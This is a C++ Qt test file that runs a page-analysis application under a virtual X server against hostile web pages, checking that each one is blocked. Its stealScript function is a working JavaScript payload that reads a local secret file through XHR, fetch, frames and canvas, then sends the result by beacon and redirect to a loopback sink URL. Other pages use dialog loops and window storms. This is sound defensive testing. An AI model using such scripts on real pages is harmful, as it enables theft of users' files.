// Hostile pages against the whole program under a virtual X server, with the real web engine and
// a loopback HTTP server that records every request: pages that try to read the user's files and
// send them away, to launch other programs, to trap the window in dialogs, windows, downloads,
// frames, reloads or scripts that never end, and pages that change under the analysis. After each,
// a good page must still be analysed, and the status bar must say what happened.
#include <QAbstractButton>
#include <QApplication>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QMessageBox>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTimer>
#include <QWebEngineView>
#include <QtTest>
#include <csignal>

#include "app/loopbackserver_for_tests.h"
#include "app/mainform.h"
#include "app/pagesourceextractor.h"
#include "app/testwindow_for_tests.h"
#include "app/webenginebrowser.h"
#include "views/qt/qtext.h"

namespace {

constexpr int kWaitMs = 30000;
const QByteArray kSecret = "SECRET-7f3a9c";

QByteArray utf8Page(const QString& body, const QString& head = {}) {
    return (u("<!DOCTYPE html><html><head><meta charset=\"utf-8\">") + head + u("</head><body>") + body +
            u("</body></html>"))
        .toUtf8();
}

// A script that tries every way a page has to read a local file, then sends whatever it got to
// the server at `sink` twice, as an image and then by leaving for it. `target` is the file's
// address as the page would write it, `shown` the
// address it puts in a frame and an image.
QString stealScript(const QString& target, const QString& shown, const QString& sink) {
    return u(R"(<script>
var got = [];
function note(what) { got.push(String(what).slice(0, 200)); }
var targets = ["%1", "%4", "secret.txt", "file://" + "%2", "sumoran-local:" + "%2"];
targets.forEach(function (t) {
  try { var x = new XMLHttpRequest(); x.open("GET", t, false); x.send(); note("xhr " + x.responseText); }
  catch (e) { note("xhr refused"); }
  fetch(t).then(function (r) { return r.text(); }).then(function (s) { note("fetch " + s); },
                                                         function () { note("fetch refused"); });
});
var frame = document.createElement("iframe");
frame.src = "%4";
document.body.appendChild(frame);
setTimeout(function () {
  try { note("frame " + frame.contentDocument.body.innerText); } catch (e) { note("frame refused"); }
  var image = new Image();
  image.onload = function () {
    try { var c = document.createElement("canvas"); c.getContext("2d").drawImage(image, 0, 0);
          note("canvas " + c.toDataURL()); } catch (e) { note("canvas refused"); }
  };
  image.src = "%4";
  setTimeout(function () {
    var beacon = new Image();
    beacon.onload = beacon.onerror = function () { location.href = "%3?d=" + encodeURIComponent(got.join("|")); };
    beacon.src = "%3?beacon=" + encodeURIComponent(got.join("|"));
  }, 500);
}, 1000);
</script>)")
        .arg(target, target.startsWith(u("file://")) ? target.mid(7) : target, sink, shown);
}

// Polls for a modal message box while a nested event loop runs, and answers it.
class BoxAnswerer : public QObject {
  public:
    explicit BoxAnswerer(QMessageBox::StandardButton answer) : answer_(answer) {
        connect(&timer_, &QTimer::timeout, this, [this] {
            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
            if (!box) return;
            texts << box->text();
            box->button(answer_)->click();
        });
        timer_.start(50);
    }
    QStringList texts;

  private:
    QMessageBox::StandardButton answer_;
    QTimer timer_;
};

}  // namespace

class HostileXvfbTest : public QObject, WindowAccess {
    Q_OBJECT

    QTemporaryDir dir_;
    LoopbackServer server_;
    WebEngineBrowser* browser_ = nullptr;
    std::unique_ptr<QSignalSpy> refused_;
    int good_ = 0;

    // True when the browser put a note holding `text` in the status bar; a later event may have
    // replaced it there since.
    bool noted(const QString& text) {
        for (const QList<QVariant>& note : *refused_) {
            if (note.at(0).toString().contains(text)) return true;
        }
        return false;
    }
    QString launchedMarker() { return dir_.filePath(u("launched")); }

    bool hasWord(const QString& word) { return HasWord(*form_, word); }

    // Serves a page with a word of its own and waits until the window has analysed it: the
    // window is still usable after whatever the test did before.
    void goodPageIsAnalysed() {
        const QString word = u("контрольное%1").arg(QChar(u'а' + good_ % 32));
        const QByteArray path = "/good" + QByteArray::number(++good_) + ".html";
        serveAndOpen(path.constData(), u("<p>Это %1 слово.</p>").arg(word));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(word) && !form_->analysisRunning(), kWaitMs);
        QCOMPARE(status(), u("Document complete"));
    }

    void open(const QString& address) { form_->OpenAddress(address); }
    void serve(const char* path, const QString& body, const QString& head = {}) {
        server_.serve(path, LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(body, head)});
    }
    // Serves a UTF-8 page of `body` at `path` and opens it.
    void serveAndOpen(const char* path, const QString& body, const QString& head = {}) {
        serve(path, body, head);
        open(server_.url(QString::fromLatin1(path)));
    }

    // Clicks the page's link with id `id`, as a user would with the mouse.
    void clickLink(const char* id) {
        auto* view = qobject_cast<QWebEngineView*>(browser_->view());
        QVariant rect;
        bool done = false;
        view->page()->runJavaScript(
            QStringLiteral("(function(){var r=document.getElementById('%1').getBoundingClientRect();"
                           "return [r.left + r.width / 2, r.top + r.height / 2];})()")
                .arg(QString::fromLatin1(id)),
            [&](const QVariant& v) {
                rect = v;
                done = true;
            });
        QTRY_VERIFY_WITH_TIMEOUT(done, kWaitMs);
        const QVariantList at = rect.toList();
        QCOMPARE(at.size(), 2);
        QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, QPoint(at[0].toInt(), at[1].toInt()));
    }

  private slots:
    void initTestCase() {
        QVERIFY(dir_.isValid());
        QVERIFY(server_.start());
        // A stand-in for the desktop's launcher: it leaves a mark when anything is handed to it.
        const QString bin = dir_.filePath(u("bin"));
        QVERIFY(QDir().mkpath(bin));
        QVERIFY(WriteTestFile(bin + u("/xdg-open"), "#!/bin/sh\necho \"$@\" >> '" + launchedMarker().toUtf8() + "'\n"));
        QVERIFY(QFile::setPermissions(bin + u("/xdg-open"), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
        qputenv("PATH", (bin + u(":") + qEnvironmentVariable("PATH")).toLocal8Bit());
        qunsetenv("BROWSER");
        qunsetenv("DEFAULT_BROWSER");
        QVERIFY(WriteTestFile(dir_.filePath(u("secret.txt")), kSecret + "\n"));
    }

    void init() {
        browser_ = new WebEngineBrowser;
        browser_->setResponseTimeout(1500);
        form_ = std::make_unique<TFormMain>(browser_, StartupSettings{});
        refused_ = std::make_unique<QSignalSpy>(browser_, &Browser::Refused);
        form_->extractor()->setTimeout(3000);
        form_->resize(1200, 900);
        form_->show();
        QFile::remove(launchedMarker());
    }

    // After whatever a test did, the window must still analyse a good page.
    void cleanup() {
        goodPageIsAnalysed();
        QVERIFY(QDir(form_->temporaryDirectory()).entryList(QDir::Files).isEmpty());
        QVERIFY(!QApplication::activeModalWidget());
        refused_.reset();
        form_.reset();
    }

    void aLocalPageCannotReadOrSendALocalFile() {
        const QString page = dir_.filePath(u("steal.html"));
        QVERIFY(WriteTestFile(page, utf8Page(u("<p>Страница с сюрпризом.</p>") +
                                             stealScript(QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString(),
                                                         u("secret.txt"), server_.url(u("/leak"))))));
        open(page);
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak") >= 2, kWaitMs);
        QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
        // The page did run and did report what it could not do.
        QVERIFY(server_.sawText("xhr refused"));
        QVERIFY(server_.sawText("frame refused"));
    }

    void aRemotePageCannotReachLocalFiles() {
        const QString secret = QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString();
        serveAndOpen("/remote-steal.html", u("<p>Удалённая страница.</p>") + stealScript(secret, secret, u("/leak2")));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak2") >= 2, kWaitMs);
        QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
    }

    void externalSchemesAreNeverLaunchedUnasked() {
        serveAndOpen("/mailto.html",
                     u("<p><a id=\"mail\" href=\"mailto:someone@example.org\" "
                       "style=\"display:block;width:300px;height:80px\">Письмо</a></p>"
                       "<script>setTimeout(function(){ location.href = 'foo:scripted'; }, 300);</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Письмо")), kWaitMs);
        // The scripted navigation is dropped, with a note.
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("foo:scripted")), kWaitMs);

        // A click asks; "No" launches nothing.
        {
            BoxAnswerer no(QMessageBox::No);
            clickLink("mail");
            QTRY_COMPARE_WITH_TIMEOUT(no.texts.size(), 1, kWaitMs);
            QVERIFY(no.texts.first().contains(u("mailto:someone@example.org")));
        }

        // "Yes" hands the address to the desktop.
        {
            BoxAnswerer yes(QMessageBox::Yes);
            clickLink("mail");
            QTRY_COMPARE_WITH_TIMEOUT(yes.texts.size(), 1, kWaitMs);
        }
        // The desktop got that one address, and nothing before it: not the scripted one, not the
        // refused click.
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(launchedMarker()), kWaitMs);
        QFile launched(launchedMarker());
        QVERIFY(launched.open(QIODevice::ReadOnly));
        QCOMPARE(launched.readAll(), QByteArray("mailto:someone@example.org\n"));
    }

    void scriptDialogsDoNotTrapTheWindow() {
        serveAndOpen("/alerts.html", u("<p>Окна без конца.</p><script>for (;;) { alert('Ловушка'); "
                                       "confirm('Уйти?'); prompt('Имя?'); }</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Окно сообщения страницы не показано")), kWaitMs);
        QVERIFY(!QApplication::activeModalWidget());
    }

    void windowOpenStormOpensNoWindow() {
        serve("/storm-target.html", u("<p>Цель бури.</p>"));
        const int windows = QApplication::topLevelWidgets().size();
        serveAndOpen("/storm.html", u("<p>Буря окон.</p><a id=\"blank\" target=\"_blank\" href=\"/storm-target.html\" "
                                      "style=\"display:block;width:300px;height:80px\">Ссылка</a>"
                                      "<script>for (var i = 0; i < 200; ++i) window.open('/storm-target.html');"
                                      "new Image().src = '/storm-done';</script>"));
        // The page asks for an image after its window storm: by then any window it opened would have asked.
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Буря")) && server_.requests("/storm-done") >= 1, kWaitMs);
        QCOMPARE(server_.requests("/storm-target.html"), 0);
        // A click on a link to a new window opens it in the same view.
        clickLink("blank");
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Цель")), kWaitMs);
        QCOMPARE(QApplication::topLevelWidgets().size(), windows);
        int views = 0;
        for (QWidget* w : QApplication::allWidgets()) views += qobject_cast<QWebEngineView*>(w) ? 1 : 0;
        QCOMPARE(views, 1);
    }

    void downloadsAreRefused() {
        server_.serve("/file.bin",
                      LoopbackServer::Reply{"application/octet-stream", "binary payload",
                                            "Content-Disposition: attachment; filename=\"payload.bin\"\r\n"});
        serveAndOpen(
            "/download.html",
            u("<p>Загрузка.</p><script>setTimeout(function(){ location.href = '/file.bin'; }, 200);</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Загрузка файла отклонена: payload.bin")), kWaitMs);
    }

    void permissionRequestsAreDenied() {
        serveAndOpen("/ask.html", u("<p>Просьбы.</p><script>navigator.geolocation.getCurrentPosition("
                                    " function () { new Image().src = '/answer?geo=granted'; },"
                                    " function () { new Image().src = '/answer?geo=denied'; });</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/answer") >= 1, kWaitMs);
        QVERIFY(server_.sawText("geo=denied"));
        QVERIFY(!server_.sawText("granted"));
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Запрос страницы отклонён: местоположение")), kWaitMs);
    }

    void aThousandFramesAreReadUpToTheBound() {
        auto word = [](int k) { return u("кадр") + QChar(u'а' + k / 32 % 32) + QChar(u'а' + k % 32); };
        // Frames filled by script, so that their words are in no other document.
        const QString frames =
            u("<script>for (var k = 0; k < 1000; ++k) {"
              " var f = document.createElement('iframe'); f.width = 20; f.height = 20;"
              " document.body.appendChild(f);"
              " f.contentDocument.body.innerHTML = '<p>кадр' +"
              " String.fromCharCode(0x430 + (k >> 5) % 32, 0x430 + k % 32) + '</p>'; }</script>");
        QCOMPARE(word(33), u("кадрбб"));
        serveAndOpen("/frames.html", frames);
        // A thousand frames take the web engine most of a minute on a busy two-core machine.
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(word(0)) && !form_->analysisRunning(), 4 * kWaitMs);
        QVERIFY(hasWord(word(PageSourceExtractor::kMaxFrames - 1)));
        QVERIFY(!hasWord(word(PageSourceExtractor::kMaxFrames)));
        QVERIFY2(status().contains(u("Кадров на странице: 1000, прочитаны первые 64")), qPrintable(status()));
    }

    void aMetaRefreshLoopLetsTheUserLeave() {
        serveAndOpen("/refresh.html", u("<p>Снова и снова.</p>"), u("<meta http-equiv=\"refresh\" content=\"0\">"));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/refresh.html") >= 5, kWaitMs);
    }

    void aScriptThatNeverEndsIsGivenUp() {
        serveAndOpen("/forever.html", u("<p>Вечный цикл.</p><script>window.onload = function () { "
                                        "setTimeout(function () { for (;;) {} }, 0); };</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Страница не отдала исходный текст за 3 с")), kWaitMs);
        QVERIFY(!form_->analysisRunning());
    }

    void aKilledRenderProcessKeepsTheResults() {
        goodPageIsAnalysed();
        const auto words = form_->document().analysis.slWordFull.size();
        // Busy for long the first time it is shown, not when it is shown again.
        server_.serve("/busy.html", [](int n) {
            const QString script = n == 1 ? u("<script>window.onload = function () { setTimeout(function () {"
                                              " var t = Date.now(); while (Date.now() - t < 20000) {} }, 0); };"
                                              "</script>")
                                          : QString();
            return LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Занятая страница.</p>") + script)};
        });
        open(server_.url(u("/busy.html")));
        QTRY_VERIFY_WITH_TIMEOUT(form_->analysisRunning(), kWaitMs);
        QVERIFY(browser_->renderProcessPid() > 0);
        ::kill(static_cast<pid_t>(browser_->renderProcessPid()), SIGKILL);
        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Процесс отображения страницы завершился")), kWaitMs);
        QVERIFY(!form_->analysisRunning());
        QCOMPARE(form_->document().analysis.slWordFull.size(), words);
        QVERIFY(!hasWord(u("Занятая")));
        // "Обновить" brings the page back, and it is analysed.
        action("tbRefresh")->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Занятая")) && !form_->analysisRunning(), kWaitMs);
    }

    void aPageThatLeavesDuringTheExtractionIsNotMixedIn() {
        serve("/arrived.html", u("<p>Пришедшая страница.</p>"));
        serveAndOpen("/leaving.html", u("<p>Уходящая страница.</p><script>window.onload = function () { "
                                        "setTimeout(function () { var t = Date.now(); "
                                        "while (Date.now() - t < 1000) {} location.href = '/arrived.html'; "
                                        "}, 0); };</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Пришедшая")) && !form_->analysisRunning(), kWaitMs);
        QVERIFY(!hasWord(u("Уходящая")));
    }

    void anAddressThatDoesNotResolveSaysSo() {
        goodPageIsAnalysed();
        const auto words = form_->document().analysis.slWordFull.size();
        open(u("http://no-such-host.invalid/page.html"));
        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Не удалось загрузить страницу")), kWaitMs);
        QVERIFY(status().contains(u("http://no-such-host.invalid/page.html")));
        auto* errorPage = browser_->view()->findChild<QLabel*>(u("wbErrorPage"));
        QVERIFY(errorPage && errorPage->isVisible());
        QVERIFY(errorPage->text().contains(u("Страница не загружена")));
        QCOMPARE(form_->document().analysis.slWordFull.size(), words);
        goodPageIsAnalysed();
        QVERIFY(!errorPage->isVisible());
    }

    void thePageOnScreenIsAnalysedWithoutAskingAgain() {
        server_.serve("/changing.html", [](int n) {
            return LoopbackServer::Reply{"text/html; charset=utf-8",
                                         utf8Page(u("<p>Запрос %1 слово.</p>").arg(n == 1 ? u("первый") : u("второй"))),
                                         "Cache-Control: no-store\r\n"};
        });
        open(server_.url(u("/changing.html")));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("первый")) && !form_->analysisRunning(), kWaitMs);
        QVERIFY(!hasWord(u("второй")));
        QCOMPARE(server_.requests("/changing.html"), 1);
        // A forced analysis and an index option take the same page again, not a new copy.
        QMetaObject::invokeMethod(form_.get(), "ExtractAndAnalyse");
        QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
        action("miIndexTitle")->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
        QVERIFY(hasWord(u("первый")));
        QVERIFY(!hasWord(u("второй")));
        QCOMPARE(server_.requests("/changing.html"), 1);
    }

    void enterInTheAddressBoxNavigatesOnce() {
        serve("/enter.html", u("<p>Ввод адреса.</p>"));
        auto* box = child<QComboBox>("cbURLNavigator");
        const QString address = server_.url(u("/enter.html"));
        for (int round = 1; round <= 2; ++round) {  // the second time the address is in the history
            box->setEditText(address);
            box->lineEdit()->setFocus();
            QTest::keyClick(box->lineEdit(), Qt::Key_Return);
            QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/enter.html") >= round && !form_->analysisRunning(), kWaitMs);
            // A second visit would have been asked for at once, before the next page is.
            goodPageIsAnalysed();
            QCOMPARE(server_.requests("/enter.html"), round);
        }
    }
};

QTEST_MAIN(HostileXvfbTest)
#include "hostile_xvfb_test.moc"
